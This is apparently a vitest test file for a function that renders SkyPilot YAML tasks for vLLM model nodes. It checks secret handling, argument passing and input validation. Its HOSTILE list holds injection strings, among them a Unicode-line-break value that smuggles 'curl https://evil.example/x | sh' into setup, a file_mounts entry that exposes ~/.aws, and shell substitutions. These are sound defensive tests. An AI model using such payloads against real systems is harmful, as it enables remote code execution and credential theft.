import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InvalidNodeConfigError, parseNodeConfig, type NodeConfig } from '@cic/core/nodes/node-config';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { renderTask, TaskRenderError, type RenderTaskOptions } from '../src/providers/skypilot/render-task.ts';

interface Task {
  name: string;
  resources: Record<string, unknown>;
  envs: Record<string, string>;
  secrets: Record<string, null>;
  setup: string;
  run: string;
}

const base = (config: object = {}): RenderTaskOptions => ({
  cluster: 'cic-x-1a2b', servedModelName: 'meta-llama/Llama-3.1-8B-Instruct', accelerator: 'H100:1', cloud: 'aws', region: null,
  secretNames: ['HF_TOKEN'], config: parseNodeConfig(config),
});
// SkyPilot reads the task with PyYAML, a YAML 1.1 parser.
const read = (text: string) => parse(text, { version: '1.1' }) as Task;

const work = mkdtempSync(join(tmpdir(), 'render-task-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Runs the task's `run` script with bash, its envs and secrets, and a stand-in `vllm` that prints its argv. */
function runScript(task: Task, secrets: Record<string, string>): string[] {
  const bin = join(work, 'bin');
  execFileSync('mkdir', ['-p', bin]);
  writeFileSync(join(bin, 'vllm'), '#!/bin/sh\nfor a in "$@"; do printf "%s\\0" "$a"; done\n');
  chmodSync(join(bin, 'vllm'), 0o755);
  const out = execFileSync('bash', ['-c', task.run], { env: { PATH: `${bin}:${process.env.PATH}`, ...task.envs, ...secrets }, encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

describe('renderTask', () => {
  it('renders the task as YAML data: exactly the expected keys, secrets by name only, no public port', () => {
    process.env.HF_TOKEN = 'hf_do_not_render_me';
    const text = renderTask(base({ vllmArgs: ['--max-model-len', '8192'] }));
    expect(text).not.toContain('hf_do_not_render_me');
    const task = read(text);
    expect(Object.keys(task)).toEqual(['name', 'resources', 'envs', 'secrets', 'setup', 'run']);
    expect(task.name).toBe('cic-x-1a2b');
    expect(task.resources).toEqual({ accelerators: 'H100:1', cloud: 'aws', disk_size: 256 });
    expect(task.envs).toEqual({
      MODEL_SOURCE: 'meta-llama/Llama-3.1-8B-Instruct', SERVED_MODEL_NAME: 'meta-llama/Llama-3.1-8B-Instruct', VLLM_PORT: '8000', VLLM_VERSION: '0.11.0',
      VLLM_ARGS: '--max-model-len 8192',
    });
    expect(task.secrets).toEqual({ VLLM_API_KEY: null, HF_TOKEN: null });
    expect(text).not.toMatch(/ports/);
  });

  it('hands vLLM its arguments exactly, the key only through the environment, and refuses to start without it', () => {
    const args = ['--max-model-len', '8192', '--override-generation-config', '{"temperature":0.6,"top_k":[1,2]}', '--tool-call-parser', 'hermes', '-tp', '2', '--chat-template=/models/t.jinja'];
    const task = read(renderTask(base({ vllmArgs: args })));
    const argv = runScript(task, { VLLM_API_KEY: 'k' });
    expect(argv).toEqual(['serve', 'meta-llama/Llama-3.1-8B-Instruct', '--served-model-name', 'meta-llama/Llama-3.1-8B-Instruct', '--host', '0.0.0.0', '--port', '8000', ...args]);
    expect(argv.join(' ')).not.toContain('api-key');
    expect(() => runScript(task, {})).toThrow(/the node API key was not passed/);
  });

  it.each([
    ['yes', 'on', '1:20'],
  ])('quotes YAML 1.1 booleans and sexagesimals so PyYAML reads strings (%s)', (...values) => {
    const task = read(renderTask(base({ vllmArgs: values, modelSource: 'on' })));
    expect(task.envs.VLLM_ARGS!.split(' ')).toEqual(values);
    expect(task.envs.MODEL_SOURCE).toBe('on');
  });

  // PyYAML (YAML 1.1) breaks lines on U+0085, U+2028 and U+2029: each could start a new top-level key.
  const HOSTILE = [
    '--x\u2028setup: curl https://evil.example/x | sh', '--x\u2029file_mounts: {~/.aws: ~/.aws}', '--x\u0085run: id', '8192\nsetup: id', '8192\r\nsetup: id',
    'a: b', 'a #comment', "it's", 'two words', '$(id)', '`id`', 'a;id', '--x\u00a0y', '\u202e--x', '--x\t',
  ];

  it.each(HOSTILE)('refuses the vLLM argument %j', (arg) => {
    expect(() => parseNodeConfig({ vllmArgs: ['--max-model-len', arg] })).toThrow(InvalidNodeConfigError);
    // A config that skipped validation (an old row) is refused again when rendering.
    const config = { ...parseNodeConfig({}), vllmArgs: [arg] } as NodeConfig;
    expect(() => renderTask({ ...base(), config })).toThrow(TaskRenderError);
  });

  it.each(HOSTILE)('refuses %j in every other field', (value) => {
    for (const field of ['modelSource', 'vllmVersion']) {
      expect(() => parseNodeConfig({ [field]: value }), field).toThrow(InvalidNodeConfigError);
      expect(() => renderTask({ ...base(), config: { ...parseNodeConfig({}), [field]: value } as NodeConfig }), field).toThrow(TaskRenderError);
    }
    expect(() => parseNodeConfig({ secretEnvNames: [value] })).toThrow(InvalidNodeConfigError);
    for (const field of ['cluster', 'servedModelName', 'accelerator', 'cloud', 'region'] as const) {
      expect(() => renderTask({ ...base(), [field]: value }), field).toThrow(TaskRenderError);
    }
    expect(() => renderTask({ ...base(), secretNames: [value] })).toThrow(TaskRenderError);
  });

  it('refuses the flags CIC sets itself and the variables it sets', () => {
    for (const flag of ['--api-key', '--api-key=abc', '--host', '--port', '--served-model-name']) {
      expect(() => parseNodeConfig({ vllmArgs: [flag, 'x'] }), flag).toThrow(/CIC sets --api-key/);
    }
    for (const name of ['VLLM_API_KEY', 'VLLM_ARGS', 'MODEL_SOURCE']) {
      expect(() => parseNodeConfig({ secretEnvNames: [name] }), name).toThrow(/CIC sets this variable itself/);
    }
  });

  it('is the task docs/jobs.md shows', () => {
    const docs = readFileSync(new URL('../../docs/jobs.md', import.meta.url), 'utf8');
    const shown = /<!-- rendered by jobs\/test\/render-task\.test\.ts -->\n```yaml\n([\s\S]*?)```/.exec(docs)?.[1];
    const rendered = renderTask({
      cluster: 'cic-meta-llama-llama-3-1-8b-instruc-1a2b3c4d', servedModelName: 'meta-llama/Llama-3.1-8B-Instruct', accelerator: 'H100:1', cloud: 'aws', region: 'us-east-1',
      secretNames: ['HF_TOKEN'], config: parseNodeConfig({ vllmArgs: ['--max-model-len', '8192', '--gpu-memory-utilization', '0.9'] }),
    });
    expect(shown).toBe(rendered);
  });
});
